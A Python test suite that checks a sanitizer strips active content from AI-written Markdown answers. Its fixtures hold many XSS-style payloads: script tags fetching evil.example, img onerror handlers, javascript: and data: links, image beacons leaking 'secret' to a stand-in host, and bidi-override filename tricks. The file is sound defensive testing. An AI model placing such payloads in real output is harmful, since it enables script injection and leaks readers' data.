"""What a model or a document writes does not act on who reads the answer, whatever Markdown it is."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.engines.base import Annotation, Output
from shared.engines.stores import Passage
from shared.models.runs import Chart, Failure, OutputFile
from shared.runs.answers import markdown_of, without_active_content
from shared.runs.escaping import inert
from tests.unit.runs.test_answers import ANSWER, citation
from tests.unit.runs.test_runs import with_files
from tests.unit.world import World

CHART = Chart(n=1, path="run_1/charts/1.png", filename="a.png", media_type="image/png", size_bytes=1)
FILE = OutputFile(path="run_1/files/1-a b.csv", filename="a b.csv", size_bytes=1)
OWN = frozenset({"run_1/charts/1.png", "run_1/files/1-a%20b.csv", "charts/1.png", "files/1-a%20b.csv"})
TAGS = "p h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong hr br table thead tbody tr th td s img a"
SHOWN = frozenset(TAGS.split())
# Readers of Markdown that pass HTML on, as most do before they clean it: with tables, and without.
READERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
    MarkdownIt("js-default", {"html": True}),
]
for reader in READERS:
    reader.validateLink = lambda _: True  # type: ignore[method-assign]  # a careless one takes javascript: and data:


class Page(HTMLParser):
    """What a browser finds in a rendered answer."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.shown = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SHOWN:
            self.found.append(tag)
        for name, value in attrs:
            if name in ("alt", "title", "class", "start", "style"):  # `style` is that of an aligned cell
                continue
            if (tag, name) not in (("a", "href"), ("img", "src")) or value not in OWN:
                self.found.append(f"{tag} {name}={value}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.shown += data

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")


def acting(markdown: str) -> list[str]:
    """The tags, links and images of a rendered text that are not harmless."""
    return [what for reader in READERS for what in Page(reader.render(markdown)).found]


EVIL = "http://evil.example/p.png?leak=secret"
HOSTILE = {
    "image": f"![x]({EVIL})",
    "html image": f"<img src={EVIL} onerror=alert(1)>",
    "broken html": f"<img src={EVIL} onerror=alert(1)//",
    "script": "<script>fetch('http://evil.example')</script>",
    "svg": "<svg/onload=alert(1)>",
    "block": f"<div>\n\n![x]({EVIL})\n\n</div>",
    "comment": "a <!-- --> b <!-->\n<!--\n![x](http://evil.example)\n-->",
    "instruction": "<?php evil ?> <![CDATA[x]]> <!DOCTYPE html>",
    "link": "[Click here](https://evil.example/login)",
    "script link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "entity link": "[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1))",
    "autolink": "<https://evil.example> <javascript:alert(1)> <me@evil.example>",
    "reference": f"[x][1] ![y][1] [1] ![1]\n\n[1]: {EVIL} 'title'",
    "reference in a quote": f"[x]\n\n> [x]: {EVIL}",
    "reference in a list": f"[x]\n\n- 1. [x]: {EVIL}",
    "reference over lines": f"![x\ny][a\nb]\n\n[a\nb]:\n{EVIL}\n'title'",
    "reference escaped": f"[a\\]b]\n\n[a\\]b]: {EVIL}",
    "link over lines": f"[x\ny](\n{EVIL}\n'title\nmore'\n)",
    "angle": f"![x](<{EVIL}>) [y](<javascript:alert(1)>)",
    "nested": f"[![x]({EVIL})](https://evil.example) [a [b](https://x.example) c](https://evil.example)",
    "brackets": f"![a[b]c]({EVIL}) ![a\\]b]({EVIL}) ![[x]({EVIL})]({EVIL})",
    "made by a label": "[x][(javascript:alert%281%29)](http://a.example)",
    "made by a label 2": "[x]![:b](http://a.example)\n\n[x](http://a.example)",
    "made of a fence": "[~~~](http://a.example)\n```\n~~~\n<img src=x onerror=alert(1)>\n```",
    "own with more": f"![x](run_1/charts/1.png{EVIL}) ![x](run_1/charts/1.png.evil) [y](run_1/charts/1.png/../../x)",
    "own in another": f"[![a](run_1/charts/1.png)]({EVIL})",
    "title": "![a](run_1/charts/1.png \"`\") <img src=x> `",
    "span in a target": "[a](b`c) `<img src=x>`d)",
    "span in a tag": "<a href=\"`\"><img src=x onerror=alert(1)>`",
    "escaped backtick": "\\`<img src=x>\\` \\\\`<img src=x>`",
    "odd backticks": "``<img src=x>` `<img src=y>``` ` `` <img src=z> `",
    "unclosed span": "`<img src=x>\n\n`<img src=y>",
    "span over cells": "| a | b |\n|---|---|\n| `<img src=x> | y` |",
    "surplus cells": "| a |\n|---|\n| 1 | `<img src=x>` | <img src=y> |\n\n`<b>`",
    "fence info": "```<img src=x>\n<b>\n```<img>",
    "fence in a list": "- ```\n  <b>\n\n<img src=x>\n  ```",
    "no fence": "a\n    <img src=x>\n    ```\n<img src=y>",
    "deep quote": ">" * 50 + " `<img src=x>` <img src=y>",
    "deep list": "- " * 50 + "`<b>` <img src=x>",
    "entity tag": "&lt;img src=x&gt; &#60;img src=x&#62;",
    "carriage returns": "`a\r<img src=x>\r\r`<img src=y>\r\n\r\n    <b>\r\n",
    "controls": "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07 \x9b31m \x00<img src=x>",
    "markers": "\x02<\x02 `<img>\x02` <img src=x>",
    "tab": "\t<img src=x>\n\n \t<img src=y>\n- \t<img src=z>",
    "heading": "# <img src=x> `<b>` #\n<i>\n===",
}  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_acts(text: str) -> None:
    answer = without_active_content(replace(ANSWER, answer=text, charts=(CHART,), outputs=(FILE,)))
    assert acting(answer.answer or "") == []
    assert acting(markdown_of(answer)) == []
    assert acting(markdown_of(replace(answer, answer=text))) == [], "also an answer that was stored before"
    assert not set("\x00\x02\x07\x1b\x9b") & set(markdown_of(answer))


SYNTAX = """` `` ``` ~~~ <img src=x> <b> < > [ ] ( ) ]( ]: ! ![a](http://e.x/i) [a](http://e.x) [~~~](http://e.x) [1]
[1]:http://e.x | |---| \\ # = --- a " ' &lt; run_1/charts/1.png http://e.x javascript:x
(run_1/charts/1.png) * _ : <!-- -->"""
PIECES = st.sampled_from([*SYNTAX.split(), "\n", "\n\n", "    ", "\t", "> ", "- ", "1. ", " ", "\r", "\x02"])


@pytest.mark.aside
@settings(max_examples=600, deadline=None)
@given(pieces=st.lists(PIECES, max_size=30))
@example(pieces=["`", "|", "<b>", "`"])
def test_no_mix_of_syntax_acts(pieces: list[str]) -> None:
    text, _ = inert("".join(pieces), OWN)
    assert acting(text) == []
    assert inert(text, OWN)[0] == text, "once is enough"


# ---- what stays --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Nothing special: 3 > 2, a[0] and f(x), 10 % & more, *so* **it** is.",
        "![Trend](run_1/charts/1.png) and [table](run_1/files/1-a%20b.csv).",
        '![Trend](run_1/charts/1.png "The trend")',
        "Use `<b>` or `a](b)`.\n\n```html\n<img src=x>\n[x]: y\n```\n\n    <i>indented</i>",
        "- item\n\n  ```\n  <u>\n  ```",
        "| a | b |\n|---|---|\n| `<b>` | 1 |",
        "It is 350 ms [1]: and 400 ms [2].",
    ],
)
def test_harmless_text_and_code_stay_as_they_are(text: str) -> None:
    assert inert(text, OWN)[0] == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [the docs](https://evil.example/a) now.", "See the docs (https://evil.example/a) now."),
        (f"![a chart]({EVIL} 'x')", f"![a chart]&#40;{EVIL} 'x')"),
        (f"![a chart]({EVIL})", f"a chart ({EVIL})"),
        (f'![]({EVIL} "title")', EVIL),
        ("[http://x.example/](http://x.example/)", "http://x.example/"),
        ("[x](javascript:alert(1))", "[x]&#40;javascript:alert(1))"),
        ("p < 0.05, <b>bold</b>", "p &lt; 0.05, &lt;b>bold&lt;/b>"),
        ("[1]: http://x.example", "[1]&#58; http://x.example"),
    ],
)
def test_what_acted_is_shown(text: str, shown: str) -> None:
    assert inert(text)[0] == shown


def test_citations_keep_their_places() -> None:
    text = "A <b>bold</b> claim. See [docs](https://x.example/a). The end."
    first, second = text.index(" See"), len(text)
    answer = without_active_content(replace(ANSWER, answer=text, citations=(citation(1, first), citation(2, second))))
    assert "claim. [1] See docs (https://x.example/a). The end. [2]" in markdown_of(answer)


@pytest.mark.parametrize(
    "text", ["**HTTP alert thresholds** [1]:", "> The limits (2026) [12]: 5", "Limits [1]:\n\n| a |"]
)
def test_the_marker_of_a_citation_before_a_colon_stays(text: str) -> None:
    assert inert(text)[0] == text


@pytest.mark.parametrize(
    "text",
    [
        "[1]: http://e.x",
        "> [1]: http://e.x",
        "[limits \\[1]: http://e.x",
        "[the\nlimits \\[1]: http://e.x",
        "- 2) [1]: http://e.x",
    ],
)
def test_a_definition_stays_none(text: str) -> None:
    assert "]:" not in inert(text)[0]


@pytest.mark.parametrize("position", range(12))
def test_a_marker_makes_no_link(position: int) -> None:
    """`[1]` before `: http://...` would define a link, and every other `[1]` would follow it."""
    text = f"\n: {EVIL}\n\nMore"
    answer = replace(ANSWER, answer=text, citations=(citation(1, position), citation(1, len(text))))
    assert acting(markdown_of(without_active_content(answer))) == []


# ---- all that stands in answer.md --------------------------------------------------------------------------------

EVERYWHERE = [
    f"![x]({EVIL}) <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    f"[x]: {EVIL}",
    "` <img src=x> ` ``` <b>",
    "a](http://evil.example) [b",
    "\n\n<script>alert(1)</script>\n\n# x",
    "\x1b[31m\x07 \x9b",
]


@pytest.mark.parametrize("text", EVERYWHERE)
def test_no_part_of_the_markdown_acts(text: str) -> None:
    answer = replace(
        ANSWER,
        question=text,
        answer=f"[x] [1] {text}",
        model=text,
        notes=(text, text),
        error=Failure(code=text, message=text),
        citations=(replace(citation(1, 3, text), document=text, filename=text),),
        charts=(replace(CHART, filename=text),),
        outputs=(replace(FILE, filename=text),),
    )
    markdown = markdown_of(answer)
    assert acting(markdown) == []
    assert not set("\x07\x1b\x9b") & set(markdown)
    assert "![" in markdown
    assert "(charts/1.png)" in markdown, "its own chart is shown"


async def test_answers_are_stored_and_served_without_active_content(world: World) -> None:
    with_files(world)
    hostile = f"See ![trend](sandbox:/mnt/data/trend.png). <img src=x> ![x]({EVIL}) [y](javascript:alert(1)) End."
    assert world.engine.output is not None
    world.engine.output = replace(
        world.engine.output,
        text=hostile,
        annotations=(Annotation(file_id="f", filename="a.md", position=hostile.index(" End.")),),
        passages=(Passage(file_id="f", filename="a.md", text="<img src=y>", score=1.0, attributes={}),),
    )
    assert isinstance(world.engine.output, Output)
    run = await world.ask(f"Why <script>x</script> ![q]({EVIL})?")
    await world.finish()
    stored = world.answer(run.id)
    assert stored.answer is not None
    own = f"{run.id}/charts/1.png"
    assert stored.answer.startswith(f"See ![trend]({own}). &lt;img src=x> x ({EVIL})")
    for text in (stored.answer, world.markdown(run.id)):
        assert (
            acting(text.replace(f"({own})", "(charts/1.png)").replace("files/1-table.csv", "files/1-a%20b.csv")) == []
        )
    assert ") [1] End." in world.markdown(run.id)
    thread = await world.app.threads.read(run.thread_id)
    assert thread is not None
    assert thread.value.messages[-1].text == stored.answer


# ---- text in another order than it has ---------------------------------------------------------------------------

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@pytest.mark.parametrize("control", BIDI)
def test_controls_of_text_direction_are_gone(control: str) -> None:
    """With an override, `exe.gpj` is shown as `jpg.exe`; between `]` and `(`, a control must not hide a link."""
    hostile = f"Open {control}gpj.exe [x]{control}({EVIL}) `a{control}b` {control}<b>"
    answer = replace(ANSWER, answer=hostile, question=hostile, notes=(hostile,), citations=(citation(1, 0, hostile),))
    safe = without_active_content(answer)
    for text in (safe.answer or "", markdown_of(safe), markdown_of(answer)):
        assert control not in text
        assert acting(text) == []
        assert inert(text)[0] == text


def test_citations_keep_their_places_when_controls_go() -> None:
    text = "\u202eThe door.\u202c <b> \u2066Yes.\u2069"
    safe, new_position = inert(text)
    assert safe == "The door. &lt;b> Yes."
    assert [safe[: new_position(text.index(end) + len(end))] for end in ("door.", "<b>", "Yes.")] == [
        "The door.",
        "The door. &lt;b>",
        "The door. &lt;b> Yes.",
    ]


@pytest.mark.parametrize("text", ["\u200fשלום (2024)\u200e", "مرحبا \u061c1", "می\u200cخواهم", "👩\u200d🔬"])
def test_marks_that_scripts_need_stay(text: str) -> None:
    assert inert(text)[0] == text
